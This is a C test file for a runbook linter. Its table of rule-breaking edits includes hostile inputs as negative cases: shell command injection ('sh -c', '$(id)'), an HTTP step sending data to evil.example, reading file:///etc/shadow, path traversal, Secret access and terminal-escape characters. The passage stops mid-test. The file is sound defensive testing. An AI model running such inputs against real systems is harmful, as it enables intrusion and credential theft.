/* SPDX-License-Identifier: Apache-2.0 */
/* The lint: what is shipped is clean, and for every rule there is an edit of a good runbook that
 * breaks it, found by that rule at its place. */
#include <string.h>

#include "lib/base/alloc.h"
#include "lib/base/clock.h"
#include "lib/base/map.h"
#include "lib/base/str.h"
#include "runbooks/lint.h"
#include "runbooks/shipped.h"
#include "runbooks/walk.h"
#include "tests/support/test.h"

static const char good[] =
	"apiVersion: sidestep.dev/v1alpha1\n"
	"kind: Runbook\n"
	"metadata:\n"
	"  name: sample\n"
	"  summary: a sample\n"
	"  version: 1\n"
	"  owners: [oncall]\n"
	"  severity: sev3\n"
	"  reviewed: \"2026-11-23\"\n"
	"  applies_to: {mesh: \">=0.1 <0.4\"}\n"
	"params:\n"
	"- {name: namespace, type: k8s-name, required: true}\n"
	"- {name: unit, type: string, required: true}\n"
	"- {name: token, type: string, secret: true, from: env, required: true}\n"
	"requires: {checks: [KRN-001], lock: namespace}\n"
	"modes: {default: diagnose, allowed: [diagnose, propose, execute]}\n"
	"vars: {label: \"${params.namespace}\"}\n"
	"steps:\n"
	"- id: first\n"
	"  title: drops in ${params.namespace}\n"
	"  kind: query\n"
	"  mutates: false\n"
	"  query: {source: flows, filter: {namespace: \"${vars.label}\"}, since: 5m, limit: 100}\n"
	"  register: drops\n"
	"  timeout: 30s\n"
	"  retry: {attempts: 3, base: 2s, on: [timeout]}\n"
	"  evidence: [{name: drops.json, from: drops.rows, redact: default, max: 1MiB}]\n"
	"- id: second\n"
	"  title: agents\n"
	"  kind: query\n"
	"  mutates: false\n"
	"  query: {source: agents, limit: 100}\n"
	"  register: agents\n"
	"  timeout: 30s\n"
	"- id: third\n"
	"  title: what the unit said\n"
	"  kind: command\n"
	"  mutates: false\n"
	"  command: {argv: [systemctl, show, --no-pager, \"unit-${params.unit}\"], output: 64KiB}\n"
	"  timeout: 10s\n"
	"- id: choose\n"
	"  title: which way\n"
	"  kind: decide\n"
	"  mutates: false\n"
	"  next:\n"
	"  - {when: drops.count > 0, goto: agree}\n"
	"  - {goto: end}\n"
	"- id: agree\n"
	"  title: may we?\n"
	"  kind: approve\n"
	"  mutates: false\n"
	"  approvers: {min: 2, groups: [oncall, \"team:mesh\"], not_requester: true, expires: "
	"30m}\n"
	"  on_timeout: abort\n"
	"- id: fix\n"
	"  title: the fix\n"
	"  kind: mutate\n"
	"  mutates: true\n"
	"  risk: high\n"
	"  precheck: [{expr: drops.count == 0}]\n"
	"  op: {k8s.patch: {ref: \"v1 ConfigMap ${params.namespace}/x\", patch: {data: {size: "
	"\"${params.unit}\"}}}}\n"
	"  verify: {expr: drops.count == 0 and agents.ready, poll: 5s, within: 5m, stable: 3, "
	"sources: 2}\n"
	"  rollback: {inverse: auto}\n"
	"outcomes:\n"
	"- {id: dropped, when: drops.count > 0, cause: there were drops}\n"
	"- {id: unknown, default: true, cause: not determined}\n";

static char *edited(const char *from, const char *to)
{
	const char *at = strstr(good, from);
	char *text;

	if (!at)
		fail_msg("\"%s\" is not in the good runbook", from);
	text = xasprintf("%.*s%s%s", (int)(at - good), good, to, at + strlen(from));
	return text;
}

static void lint(struct report *r, const char *text, const struct fixture *f, size_t n_f)
{
	struct doc_stream s = {0};
	struct error err = ERROR_INIT;

	report_init(r, "test", "test", clock_system());
	if (doc_read_yaml(&r->arena, text, strlen(text), "r.yaml", &s, &err) < 0)
		fail_msg("%s", err.msg);
	lint_runbook(r, s.docs[0], f, n_f);
	report_finish(r);
}

static const struct finding *first_fail(const struct report *r, const char *id)
{
	for (size_t i = 0; i < r->n; i++) {
		if (r->findings[i].result == FINDING_FAIL && (!id || str_eq(r->findings[i].id, id)))
			return &r->findings[i];
	}
	return NULL;
}

/* RBL-027 only informs. */
static const struct finding *first_other(const struct report *r, const char *id)
{
	for (size_t i = 0; i < r->n; i++) {
		const struct finding *f = &r->findings[i];

		if (f->result != FINDING_PASS && f->result != FINDING_SKIP &&
		    !str_eq(f->id, "RBL-027") && !str_eq(f->id, id))
			return f;
	}
	return NULL;
}

TEST(the_good_one_is_clean_and_its_program_is_named)
{
	struct report r;
	const struct finding *f;

	lint(&r, good, NULL, 0);
	f = first_other(&r, NULL);
	if (f)
		fail_msg("%s %s: %s", f->id, f->scope, f->message);
	assert_non_null(first_fail(&r, "RBL-027"));
	assert_int_equal(report_verdict(&r, SEVERITY_WARNING), REPORT_OK);
	report_release(&r);
}

#define VERIFY                                                                                     \
	"  verify: {expr: drops.count == 0 and agents.ready, poll: 5s, within: 5m, stable: 3, "    \
	"sources: 2}\n"
#define ARGV "argv: [systemctl, show, --no-pager, \"unit-${params.unit}\"]"

/* Low itself, before any approval; its way back is not. */
#define UNDONE_BY_A_DELETION                                                                       \
	"- id: rebuild\n  title: anew\n  kind: mutate\n  mutates: true\n  risk: low\n"             \
	"  idempotency_key: once\n  op: {endpoint.regenerate: {selector: all}}\n" VERIFY           \
	"  on_error: {action: rollback}\n  rollback:\n    steps:\n    - id: gone\n"                \
	"      title: gone\n      kind: mutate\n      mutates: true\n      risk: high\n"           \
	"      idempotency_key: once\n      op: {k8s.delete: {ref: v1 ConfigMap web/x}}\n"         \
	"    " VERIFY

#define AGENTS    "kind: query\n  mutates: false\n  query: {source: agents, limit: 100}"
#define K8S(args) "kind: k8s\n  mutates: false\n  k8s: {" args "}"
#define HTTP(url) "kind: http\n  mutates: false\n  http: {url: \"" url "\", output: 1KiB}"

/* The fix is another operation. */
#define PATCH                                                                                      \
	"  op: {k8s.patch: {ref: \"v1 ConfigMap ${params.namespace}/x\", patch: {data: {size: "    \
	"\"${params.unit}\"}}}}\n"
#define REGENERATE(args) "  op: {endpoint.regenerate: {" args "}}\n"

/* also: another rule breaks with it. */
static const struct {
	const char *rule, *from, *to, *also;
} edits[] = {
	{"RBL-001", "risk: high", "rsik: high", "RBL-015"},
	{"RBL-001", "sidestep.dev/v1alpha1", "ops.mesh/v1", NULL},
	{"RBL-001", "kind: decide", "kind: guess", NULL},
	{"RBL-001", "min: 2", "min: two", NULL},
	{"RBL-001", "min: 2", "min: 0", NULL},
	{"RBL-001", "expires: 30m", "expires: 30m, user_from: USER", NULL},
	{"RBL-002", "owners: [oncall]", "owners: []", NULL},
	{"RBL-002", "sev3", "bad", NULL},
	{"RBL-002", "2026-11-23", "lately", NULL},
	{"RBL-002", ">=0.1 <0.4", "~> 1", NULL},
	{"RBL-002", "lock: namespace", "lock: mine", NULL},
	{"RBL-003", "id: second", "id: first", NULL},
	{"RBL-003", "id: second", "id: Second-Step", NULL},
	{"RBL-003", "register: agents", "register: drops", "RBL-010 RBL-016"},
	{"RBL-003", "register: agents", "register: params", "RBL-010 RBL-016"},
	{"RBL-004", "  query: {source: agents, limit: 100}\n", "", NULL},
	{"RBL-004", "  title: may we?\n", "  title: may we?\n  note: x\n", NULL},
	{"RBL-004", "kind: decide", "kind: parallel", NULL},
	{"RBL-005", "goto: agree", "goto: nowhere", "RBL-006 RBL-010 RBL-016 RBL-019"},
	{"RBL-005", "risk: high", "risk: high\n  on_error: {action: \"goto:nowhere\"}", NULL},
	{"RBL-005", "risk: high", "risk: high\n  on_error: {action: shrug}", NULL},
	{"RBL-006", "when: drops.count > 0, goto: agree", "when: drops.count > 0, goto: end",
	 "RBL-010 RBL-016"},
	{"RBL-007", "  rollback: {inverse: auto}\n",
	 "  rollback: {inverse: auto}\n  next: [{goto: choose}]\n", NULL},
	{"RBL-007", "  - {goto: end}\n", "  - {goto: choose}\n", NULL},
	{"RBL-008", "  - {goto: end}\n", "", NULL},
	{"RBL-008", "  - {when: drops.count > 0, goto: agree}\n",
	 "  - {goto: end}\n  - {when: drops.count > 0, goto: agree}\n", NULL},
	{"RBL-009", "when: drops.count > 0, goto", "when: drops.count >, goto", NULL},
	{"RBL-009", "title: agents", "title: agents of $HOME", NULL},
	{"RBL-009", "title: agents", "title: agents of $(id)", NULL},
	{"RBL-010", "when: drops.count > 0, goto", "when: drips.count > 0, goto", NULL},
	{"RBL-010", "${vars.label}", "${vars.lable}", NULL},
	{"RBL-010", "drops in ${params.namespace}", "drops in ${params.namespase}", NULL},
	{"RBL-010", "drops in ${params.namespace}", "drops in ${agents.count}", NULL},
	{"RBL-010", "when: drops.count > 0, cause", "when: nothing.count > 0, cause", NULL},
	{"RBL-011", "source: agents", "source: tea-leaves", NULL},
	{"RBL-011", "{namespace: \"${vars.label}\"}", "{verdit: DROPPED}", NULL},
	{"RBL-011", "{namespace: \"${vars.label}\"}", "{verdict: droped}", NULL},
	{"RBL-011", "{namespace: \"${vars.label}\"}", "{drop_reason: BAD_LUCK}", NULL},
	{"RBL-011", "{namespace: \"${vars.label}\"}", "[DROPPED]", NULL},
	{"RBL-011", "source: agents, limit", "source: agents, since: 5m, limit", NULL},
	{"RBL-011", "source: agents, limit", "source: agents, filter: {x: y}, limit", NULL},
	{"RBL-011", "k8s.patch:", "k8s.exec:", "RBL-017"},
	{"RBL-011", "patch: {data", "pitch: {data", NULL},
	{"RBL-011", "KRN-001", "sh -c id", NULL},
	{"RBL-011",
	 "  risk: high\n  precheck: [{expr: drops.count == 0}]\n  op: {k8s.patch: {ref: \"v1 "
	 "ConfigMap ${params.namespace}/x\", patch: {data: {size: \"${params.unit}\"}}}}\n",
	 "  risk: low\n  precheck: [{expr: drops.count == 0}]\n  op: {k8s.restart: {ref: "
	 "\"apps/v1 DaemonSet ${params.namespace}/x\", nodes: \"${params.unit}\"}}\n",
	 "RBL-017"},
	{"RBL-012", "default: true", "when: 'true'", NULL},
	{"RBL-012", ", cause: there were drops", "", NULL},
	{"RBL-013", "secret: true, from: env, required: true", "secret: true, default: abc", NULL},
	{"RBL-013", "type: k8s-name, required: true", "type: k8s-name", NULL},
	{"RBL-013", "type: k8s-name, required: true", "type: k8s-name, default: {discover: x}",
	 NULL},
	{"RBL-014", "default: diagnose", "default: execute", NULL},
	{"RBL-014", "propose, execute]", "propose]", NULL},
	{"RBL-014", "propose, execute]", "propose, execute, yolo]", NULL},
	{"RBL-015", "  mutates: true\n", "  mutates: false\n", NULL},
	{"RBL-015", "  mutates: true\n", "", NULL},
	{"RBL-015", "  risk: high\n", "", NULL},
	{"RBL-015", "kind: decide\n  mutates: false", "kind: decide\n  mutates: true",
	 "RBL-016 RBL-017 RBL-018"},
	{"RBL-016", VERIFY, "", NULL},
	{"RBL-016", "drops.count == 0 and agents.ready", "'true'", NULL},
	{"RBL-016", "drops.count == 0 and agents.ready", "drops.count == 0", NULL},
	{"RBL-016", "sources: 2", "sources: 1", NULL},
	{"RBL-016", "stable: 3", "stable: 1", NULL},
	{"RBL-017", "  rollback: {inverse: auto}\n", "", NULL},
	{"RBL-017", "{inverse: auto}", "{inverse: none}", NULL},
	{"RBL-017", "{inverse: auto}", "{}", NULL},
	{"RBL-017", "{inverse: auto}", "{inverse: auto, reason: trust me}", NULL},
	{"RBL-018", "  precheck: [{expr: drops.count == 0}]\n", "", NULL},
	{"RBL-019", "min: 2", "min: 1", NULL},
	{"RBL-019", "when: drops.count > 0, goto: agree", "when: drops.count > 0, goto: fix",
	 "RBL-006"},
	{"RBL-019", "title: may we?", "title: may we?\n  when: drops.count > 5", NULL},
	{"RBL-019", "title: may we?", "title: may we?\n  on_error: {action: continue}", NULL},
	{"RBL-019", "- id: choose\n", UNDONE_BY_A_DELETION "- id: choose\n", NULL},
	{"RBL-020", "groups: [oncall, \"team:mesh\"]", "groups: []", NULL},
	{"RBL-020", "\"team:mesh\"", "\"${params.unit}\"", NULL},
	{"RBL-020", "\"team:mesh\"", "$USER", NULL},
	{"RBL-020", "\"team:mesh\"", "--approver", NULL},
	{"RBL-020", "not_requester: true", "not_requester: false", NULL},
	{"RBL-020", ", expires: 30m", "", NULL},
	{"RBL-020", "on_timeout: abort", "on_timeout: continue", "RBL-019"},
	{"RBL-021", ARGV, "argv: [sh, -c, \"id; reboot\"]", NULL},
	{"RBL-021", ARGV, "argv: [/bin/bash, -c, id]", NULL},
	{"RBL-021", ARGV, "argv: [\"${params.unit}\"]", NULL},
	{"RBL-021", ARGV, "argv: [kubectl, delete, ns, x]", NULL},
	{"RBL-021", ARGV, "argv: [ip, netns, exec, x, sh]", NULL},
	{"RBL-021", ARGV, "argv: [systemctl, restart, x]", NULL},
	{"RBL-021", ARGV, "argv: [uname, -a, x]", NULL},
	{"RBL-021", ARGV, "argv: [systemctl, show]", NULL},
	{"RBL-022", "unit-${params.unit}", "${params.unit}", NULL},
	{"RBL-022", "unit-${params.unit}", "--force", NULL},
	{"RBL-023", "  timeout: 10s\n", "", NULL},
	{"RBL-023", "timeout: 10s", "timeout: 3h", NULL},
	{"RBL-023", "timeout: 10s", "timeout: \"${params.unit}\"", NULL},
	{"RBL-023", ", within: 5m", "", NULL},
	{"RBL-023", "expires: 30m", "expires: 1000h", NULL},
	{"RBL-024", ", output: 64KiB", "", NULL},
	{"RBL-024", "output: 64KiB", "output: 64GiB", NULL},
	{"RBL-024", "max: 1MiB", "max: 900MiB", NULL},
	{"RBL-024", "source: agents, limit: 100", "source: agents", NULL},
	{"RBL-025", "name: drops.json", "name: ../../etc/drops", NULL},
	{"RBL-025", "redact: default", "redact: none", NULL},
	{"RBL-025", "from: drops.rows", "from: length(drops.rows)", NULL},
	{"RBL-026", "title: agents", "title: agents ${params.token}", NULL},
	{"RBL-026", "unit-${params.unit}", "unit-${params.token}", NULL},
	{"RBL-026", "\"${params.unit}\"}}}", "\"${params.token}\"}}}", NULL},
	{"RBL-026", "from: drops.rows", "from: params", NULL},
	{"RBL-026", "namespace: \"${vars.label}\"", "namespace: \"${params['token']}\"", NULL},
	{"RBL-026", "label: \"${params.namespace}\"", "label: \"${params.token}\"", NULL},
	{"RBL-015", "risk: high", "risk: none", NULL},
	{"RBL-018", "risk: high", "risk: high\n  retry: {attempts: 20, base: 1s}", NULL},
	{"RBL-020", "\"team:mesh\"", "\"system:authenticated\"", NULL},
	{"RBL-011",
	 "k8s.patch: {ref: \"v1 ConfigMap ${params.namespace}/x\", patch: {data: {size: "
	 "\"${params.unit}\"}}}",
	 "policy.suspend: {ref: \"cilium.io/v2 CiliumNetworkPolicy a/b\", until: 1h}", NULL},
	{"RBL-030", "v1 ConfigMap", "v1 Secret", NULL},
	{"RBL-030", "v1 ConfigMap", "rbac.authorization.k8s.io/v1 ClusterRoleBinding", NULL},
	{"RBL-030", "v1 ConfigMap ${params.namespace}/x", "${drops.rows[0]}", NULL},
	{"RBL-030", "v1 ConfigMap ${params.namespace}/x", "v1 ${params.unit} a/b", NULL},
	{"RBL-030", "${params.namespace}/x", "${params.namespace}/../../kube-system/x", NULL},
	{"RBL-030", "${params.namespace}/x", "../${params.namespace}/x", NULL},
	{"RBL-030", "${params.namespace}/x", "a/${params.namespace}/x", NULL},
	{"RBL-030", "kind: query\n  mutates: false\n  query: {source: agents, limit: 100}",
	 "kind: k8s\n  mutates: false\n  k8s: {list: v1 Secret, limit: 5}", NULL},
	{"RBL-031", AGENTS, HTTP("http://evil.example/?x=${drops.count}"), NULL},
	{"RBL-031", AGENTS, HTTP("http://a.b.svc@evil.example/"), NULL},
	{"RBL-031", AGENTS, HTTP("http://${params.unit}.svc/"), NULL},
	{"RBL-031", AGENTS, HTTP("http://evil.example/a.svc"), NULL},
	{"RBL-031", AGENTS, HTTP("file:///etc/shadow"), NULL},
	{"RBL-032", "title: agents", "title: \"agents\\e[2J\"", NULL},
	{"RBL-032", "title: agents", "title: \"agents \\u202e gniht on\"", NULL},
	{"RBL-032", "title: agents", "title: \"agents \\u0085\"", NULL},
	{"RBL-034", PATCH, REGENERATE("selector: al"), "RBL-017"},
	{"RBL-034", PATCH, REGENERATE("selector: \"${params.unit}\""), "RBL-017"},
	{"RBL-034", PATCH, REGENERATE("selector: all, nodes: \"\""), "RBL-017"},
	{"RBL-034", PATCH, REGENERATE("selector: all, nodes: \" , \""), "RBL-017"},
	{"RBL-034", PATCH, REGENERATE("selector: all, nodes: []"), "RBL-017"},
	{"RBL-034", PATCH, REGENERATE("selector: all, nodes: [a, \"\"]"), "RBL-017"},
	{"RBL-034", PATCH, REGENERATE("selector: all, nodes: 7"), "RBL-017"},
	{"RBL-034", PATCH, REGENERATE("selector: all, nodes: A/B"), "RBL-017"},
	{"RBL-034", AGENTS, K8S("list: v1 Pod web/frontend, limit: 5"), NULL},
	{"RBL-034", AGENTS, K8S("list: v1 Pod, limit: 5, namespace: \"\""), NULL},
	{"RBL-034", AGENTS, K8S("get: v1 Pod web/a, namespace: shop"), NULL},
	{"RBL-034", AGENTS, K8S("get: v1 Pod web/a, selector: a=b"), NULL},
	{"RBL-034", "{namespace: \"${vars.label}\"}", "{verdict: AUDIT, fault: \"true\"}", NULL},
	{"RBL-034", "{namespace: \"${vars.label}\"}",
	 "{verdict: FORWARDED, drop_reason: POLICY_DENIED}", NULL},
	{"RBL-034", "type: k8s-name, required: true", "type: k8s-name, default: \"\"", NULL},
	{"RBL-034", "type: k8s-name, required: true", "type: k8s-name, default: \"A B\"", NULL},
	{"RBL-034", "type: string, required: true", "type: duration, default: 5x", NULL},
	{"RBL-034", "type: string, required: true", "type: duration, default: 2h, max: 1h", NULL},
	{"RBL-034", "type: string, required: true", "type: duration, required: true, min: 60",
	 NULL},
	{"RBL-034", "type: string, required: true", "type: int, default: abc", NULL},
	{"RBL-034", "type: string, required: true", "type: int, default: 3, max: x", NULL},
	{"RBL-034", "type: string, required: true", "type: int, required: true, min: 5, max: 1",
	 NULL},
	{"RBL-034", "type: string, required: true", "type: bool, default: \"yes\"", NULL},
	{"RBL-034", "type: string, required: true", "type: choice, choices: [a, b], default: c",
	 NULL},
	{"RBL-034", "type: string, required: true", "type: string, required: true, max: 5", NULL},
	{"RBL-034", "{namespace: \"${vars.label}\"}", "{namespace: \"\"}", NULL},
	{"RBL-034", "since: 5m", "since: yesterday", NULL},
	{"RBL-034", "since: 5m", "since: \"\"", NULL},
	{"RBL-034", "since: 5m", "since: 0s", NULL},
	{"RBL-034", "since: 5m", "since: \"${params.unit}\"", NULL},
	{"RBL-034", "since: 5m", "since: \"${vars.label}\"", NULL},
	{"RBL-034", PATCH, "  op: {k8s.evict: {selector: all}}\n", "RBL-017"},
	{"RBL-034", PATCH, "  op: {k8s.evict: {selector: endpoints-not-ready, namespace: \"\"}}\n",
	 "RBL-017"},
};

static bool expected(const char *also, const char *id)
{
	return also && strstr(also, id);
}

static size_t complain_of(const struct report *r, size_t edit)
{
	size_t wrong = 0;

	for (size_t k = 0; k < r->n; k++) {
		const struct finding *f = &r->findings[k];

		if (f->result != FINDING_FAIL || str_eq(f->id, "RBL-027"))
			continue;
		if (!str_eq(f->id, edits[edit].rule) && !expected(edits[edit].also, f->id)) {
			print_error("\"%s\": %s %s: %s\n", edits[edit].to, f->id, f->scope,
				    f->message);
			wrong++;
		}
		if (!f->where && !strstr(f->message, "r.yaml:")) {
			print_error("\"%s\": %s without a place\n", edits[edit].to, f->id);
			wrong++;
		}
	}
	return wrong;
}

TEST(every_edit_breaks_its_rule_and_no_other)
{
	size_t wrong = 0;

	for (size_t i = 0; i < ARRAY_SIZE(edits); i++) {
		auto_free char *text = edited(edits[i].from, edits[i].to);
		struct report r;

		lint(&r, text, NULL, 0);
		if (!first_fail(&r, edits[i].rule)) {
			print_error("\"%s\" for \"%s\" passes %s\n", edits[i].to, edits[i].from,
				    edits[i].rule);
			wrong++;
		}
		wrong += report_verdict(&r, SEVERITY_ERROR) == REPORT_OK;
		wrong += complain_of(&r, i);
		report_release(&r);
	}
	assert_int_equal(wrong, 0);
}

TEST(every_rule_has_an_edit_that_breaks_it)
{
	size_t n;
	const struct check *rules = lint_rules(&n);

	for (size_t i = 0; i < n; i++) {
		/* these three have tests of their own */
		bool found = str_eq(rules[i].id, "RBL-027") || str_eq(rules[i].id, "RBL-028") ||
			     str_eq(rules[i].id, "RBL-029");

		for (size_t k = 0; k < ARRAY_SIZE(edits); k++)
			found |= str_eq(edits[k].rule, rules[i].id);
		if (!found)
			fail_msg("%s", rules[i].id);
	}
}

TEST(the_place_of_a_complaint_is_where_it_stands)
{
	auto_free char *text = edited("drops.count > 0, goto: agree", "drops.count >, goto: agree");
	auto_free char *unknown = edited("  risk: high\n", "  risk: high\n  verfy: {}\n");
	struct report r;
	const struct finding *f;

	lint(&r, text, NULL, 0);
	f = first_fail(&r, "RBL-009");
	assert_string_equal(f->scope, "sample/steps[3].next[0].when");
	assert_string_equal(f->where, "r.yaml:46:12");
	assert_non_null(strstr(f->message, "1:14: want a value, but it ends here"));
	report_release(&r);
	lint(&r, unknown, NULL, 0);
	f = first_fail(&r, "RBL-001");
	assert_string_equal(f->message, "the schema has no field steps[5].verfy (r.yaml:59:10)");
	assert_string_equal(f->where, "r.yaml:59:10");
	report_release(&r);
}

/* The cases that stand beside the shipped runbooks, by the runbook's name. */
static size_t cases_of_shipped(struct arena *a, const char *name, struct fixture *f, size_t most)
{
	struct doc_stream s = {0};
	struct error err = ERROR_INIT;

	if (doc_read_file(a, arena_printf(a, "runbooks/fixtures/%s.yaml", name), &s, &err) < 0)
		fail_msg("%s", err.msg);
	assert_in_range(s.n, 1, most);
	for (size_t i = 0; i < s.n; i++) {
		struct bind_unknown unknown = {.arena = a};

		if (fixture_decode(a, s.docs[i], &f[i], &unknown, &err) < 0)
			fail_msg("%s", err.msg);
		assert_int_equal(unknown.n, 0);
	}
	return s.n;
}

TEST(what_is_shipped_is_clean_and_its_cases_take_every_branch)
{
	auto_release(map) struct map names = MAP_INIT;

	assert_true(shipped_runbooks_n >= 4);
	for (size_t i = 0; i < shipped_runbooks_n; i++) {
		auto_release(arena) struct arena a = ARENA_INIT;
		struct fixture f[50];
		struct doc_stream s = {0};
		struct report r;
		const struct finding *bad;
		const char *name;

		assert_int_equal(doc_read_yaml(&a, shipped_runbooks[i].text, shipped_runbooks[i].n,
					       "shipped", &s, NULL),
				 0);
		name = doc_find_str(s.docs[0], "metadata.name");
		assert_null(map_set(&names, name, &names));
		lint(&r, shipped_runbooks[i].text, f, cases_of_shipped(&a, name, f, ARRAY_SIZE(f)));
		bad = first_fail(&r, NULL);
		if (bad)
			fail_msg("%s: %s %s: %s", shipped_runbooks[i].file, bad->id, bad->scope,
				 bad->message);
		assert_int_equal(report_count(&r, FINDING_SKIP), 0);
		report_release(&r);
	}
}

/* --- fixtures ----------------------------------------------------------------------------------
 */

static const char fixture_text[] =
	"- {name: dropped, mode: execute, path: [first, second, third, choose, agree, fix], "
	"outcome: dropped, exit: 0,\n"
	"   answers: {first: {count: 3}, second: {ready: true}, agree: {approved: true}, fix: "
	"{verified: true}}}\n"
	"- {name: quiet, mode: diagnose, path: [first, second, third, choose], outcome: unknown, "
	"exit: 5,\n"
	"   answers: {first: {count: 0}, second: {ready: true}}}\n"
	"- {name: reads, mode: diagnose, path: [first, second, third, choose], outcome: dropped, "
	"exit: 0,\n"
	"   answers: {first: {count: 1}, second: {ready: true}}}\n"
	"- {name: waits, mode: execute, path: [first, second, third, choose, agree], outcome: "
	"none, exit: 7,\n"
	"   answers: {first: {count: 1}, second: {ready: true}}}\n"
	"- {name: refused, mode: execute, path: [first, second, third, choose, agree], outcome: "
	"dropped, exit: 8,\n"
	"   answers: {first: {count: 1}, second: {ready: true}, agree: {approved: false}}}\n"
	"- {name: unproved, mode: execute, path: [first, second, third, choose, agree, fix], "
	"outcome: dropped, exit: 3,\n"
	"   answers: {first: {count: 1}, second: {ready: true}, agree: {approved: true}, fix: "
	"{}}}\n"
	"- {name: mute, mode: diagnose, path: [first], outcome: unknown, exit: 3, answers: {}}\n"
	"- {name: vague, mode: diagnose, path: [first, second, third, choose], outcome: unknown, "
	"exit: 5,\n"
	"   answers: {first: {rows: []}, second: {ready: true}}}\n"
	"- {name: jumps, mode: diagnose, path: [first, fix], outcome: unknown, answers: {first: "
	"{count: 0}, second: {}}}\n"
	"- {name: lost, mode: diagnose, path: [first, second, third, choose], outcome: dropped,\n"
	"   answers: {first: {count: 0}, second: {}}}\n";

#define N_GOOD_FIXTURES 8
#define N_FIXTURES      10

static void read_fixtures(struct arena *a, struct fixture f[N_FIXTURES])
{
	struct doc_stream s = {0};

	assert_int_equal(doc_read_yaml(a, fixture_text, strlen(fixture_text), "f.yaml", &s, NULL),
			 0);
	assert_int_equal(doc_len(s.docs[0]), N_FIXTURES);
	for (size_t i = 0; i < N_FIXTURES; i++) {
		const struct doc *d = doc_at(s.docs[0], i), *path = doc_get(d, "path");

		f[i] = (struct fixture){
			.name = doc_find_str(d, "name"),
			.runbook = "sample",
			.mode = str_eq(doc_find_str(d, "mode"), "execute") ? MODE_EXECUTE
									   : MODE_DIAGNOSE,
			.answers = doc_get(d, "answers"),
			.path = {arena_array(a, doc_len(path), const char *), doc_len(path)},
			.outcome = doc_find_str(d, "outcome"),
			.exit = {doc_get(d, "exit") != NULL, doc_find_int(d, "exit", 0)},
		};
		doc_foreach_item (path, it)
			f[i].path.items[it_i] = doc_str(it);
	}
}

static void text_fails_with(const char *text, const struct fixture *f, const char *rule,
			    const char *says)
{
	struct report r;
	bool found = false;

	lint(&r, text, f, 1);
	for (size_t i = 0; i < r.n; i++)
		found |= r.findings[i].result == FINDING_FAIL && str_eq(r.findings[i].id, rule) &&
			 str_starts(r.findings[i].message, says);
	if (!found)
		fail_msg("%s: %s does not say \"%s\"", f->name, rule, says);
	report_release(&r);
}

static void fails_with(const struct fixture *f, const char *rule, const char *says)
{
	text_fails_with(good, f, rule, says);
}

TEST(fixtures_must_take_every_branch_and_lead_where_they_say)
{
	auto_free char *errs = edited("  register: agents\n",
				      "  register: agents\n"
				      "  on_error: {action: \"goto:agree\", mark: failed}\n");
	struct arena a = ARENA_INIT;
	struct fixture f[N_FIXTURES];
	struct report r;
	const struct finding *found;

	read_fixtures(&a, f);
	lint(&r, good, f, N_GOOD_FIXTURES);
	found = first_other(&r, NULL);
	if (found)
		fail_msg("%s", found->message);
	report_release(&r);
	fails_with(&f[0], "RBL-028", "no fixture goes from choose to end");
	fails_with(&f[1], "RBL-028", "no fixture goes from choose to agree");
	/* Where an error leads is a branch, too. */
	text_fails_with(errs, &f[0], "RBL-028", "no fixture goes from second to agree");
	fails_with(&f[8], "RBL-029", "fixture jumps: behind first comes second, not fix");
	fails_with(&f[9], "RBL-029", "fixture lost concludes unknown, not dropped");
	arena_release(&a);
}

TEST(a_fixture_is_decoded_and_its_unknown_fields_are_named)
{
	static const char text[] = "apiVersion: sidestep.dev/v1alpha1\n"
				   "kind: RunbookFixture\n"
				   "metadata: {name: quiet}\n"
				   "runbook: sample\n"
				   "mode: diagnose\n"
				   "answers: {first: {count: 0}}\n"
				   "expect: {path: [first], outcome: unknown, exit: 5, extra: 1}\n";
	struct arena a = ARENA_INIT;
	struct bind_unknown unknown = {.arena = &a};
	struct doc_stream s = {0};
	struct fixture f;

	assert_int_equal(doc_read_yaml(&a, text, strlen(text), "f.yaml", &s, NULL), 0);
	assert_int_equal(fixture_decode(&a, s.docs[0], &f, &unknown, NULL), 0);
	assert_string_equal(f.outcome, "unknown");
	assert_int_equal(f.exit.value, 5);
	assert_int_equal(unknown.n, 1);
	assert_string_equal(unknown.items[0].path, "expect.extra");
	arena_release(&a);
}

/* Where the fix was not verified, and the way goes on nevertheless. */
TEST(a_change_that_failed_is_no_success)
{
#define SECOND                                                                                     \
	"- id: again\n  title: anew\n  kind: mutate\n  mutates: true\n  risk: low\n"               \
	"  idempotency_key: once\n  op: {endpoint.regenerate: {selector: all}}\n" VERIFY           \
	"  rollback: {inverse: none, reason: nothing to put back}\n"
	static const struct {
		const char *on_error, *second;
		bool verified; /* the second one */
		int exit;
	} rows[] = {
		{"{action: continue}", "", false, 3},
		{"{action: continue, mark: inconclusive}", "", false, 5},
		{"{action: \"goto:end\"}", "", false, 3},
		{"{action: continue}", SECOND, true, 3},
		{"{action: \"goto:again\"}", SECOND, true, 0},
		{"{action: \"goto:again\"}", SECOND, false, 3},
	};

	for (size_t i = 0; i < ARRAY_SIZE(rows); i++) {
		auto_free char *to = xasprintf("  rollback: {inverse: auto}\n  on_error: %s\n%s",
					       rows[i].on_error, rows[i].second);
		auto_free char *text = edited("  rollback: {inverse: auto}\n", to);
		auto_free char *answers = xasprintf(
			"{first: {count: 1}, second: {ready: true}, agree: {approved: true}, fix: "
			"{verified: false}, again: {verified: %s}}",
			rows[i].verified ? "true" : "false");
		struct doc_stream s = {0};
		struct report r;
		const struct runbook *rb;
		const struct doc *answered;
		struct walk w;

		report_init(&r, "test", "test", clock_system());
		assert_int_equal(doc_read_yaml(&r.arena, answers, strlen(answers), "a", &s, NULL),
				 0);
		answered = s.docs[0];
		assert_int_equal(doc_read_yaml(&r.arena, text, strlen(text), "r", &s, NULL), 0);
		rb = lint_runbook(&r, s.docs[0], NULL, 0);
		runbook_walk(&r.arena, rb, MODE_EXECUTE, NULL, answered, &w);
		if (w.exit != rows[i].exit || (w.exit && !strstr(w.why, ": it was not verified")))
			fail_msg("row %zu: exit %d: %s", i, w.exit, str_or_empty(w.why));
		report_finish(&r);
		report_release(&r);
	}
#undef SECOND
}

/* --- limits ------------------------------------------------------------------------------------
 */

TEST(too_many_steps_and_too_deep_ones_are_no_runbook)
{
	struct strbuf sb = STRBUF_INIT;
	auto_free char *text = NULL;
	struct report r;

	for (unsigned i = 0; i <= RUNBOOK_MAX_STEPS; i++)
		strbuf_addf(&sb, "- {id: s%u, title: t, kind: note, mutates: false, note: x}\n", i);
	strbuf_adds(&sb, "- id: first\n");
	text = edited("- id: first\n", strbuf_cstr(&sb));
	lint(&r, text, NULL, 0);
	assert_non_null(strstr(first_fail(&r, "RBL-001")->message, "more than 200 steps"));
	report_release(&r);
	strbuf_release(&sb);
}

TEST(a_service_of_the_cluster_may_be_asked)
{
